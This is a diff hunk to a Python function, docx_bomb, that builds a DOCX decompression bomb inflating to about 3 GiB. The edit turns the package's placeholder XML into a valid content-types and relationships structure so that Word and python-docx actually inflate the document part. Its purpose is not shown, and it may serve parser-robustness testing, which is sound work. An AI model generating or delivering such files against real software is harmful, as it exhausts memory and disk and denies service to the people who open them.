@@ -37,10 +37,18 @@ def docx_bomb(path, inflated=3 * 2**30):
     """
     n = inflated // CHUNK
     block, tail = _deflated_zeros(n)
-    small = {"[Content_Types].xml": b'<?xml version="1.0"?><Types xmlns="http://schemas.'
-                                    b'openxmlformats.org/package/2006/content-types"/>',
-             "_rels/.rels": b'<?xml version="1.0"?><Relationships xmlns="http://schemas.'
-                            b'openxmlformats.org/package/2006/relationships"/>'}
+    small = {  # a real package: Word (and python-docx) go on to inflate the document part
+        "[Content_Types].xml":
+            b'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.'
+            b'org/package/2006/content-types"><Default Extension="rels" ContentType="application/'
+            b'vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType='
+            b'"application/xml"/><Override PartName="/word/document.xml" ContentType="application/'
+            b'vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
+        "_rels/.rels":
+            b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.'
+            b'openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://'
+            b'schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
+            b'Target="word/document.xml"/></Relationships>'}
     out = bytearray()
     central = bytearray()
 
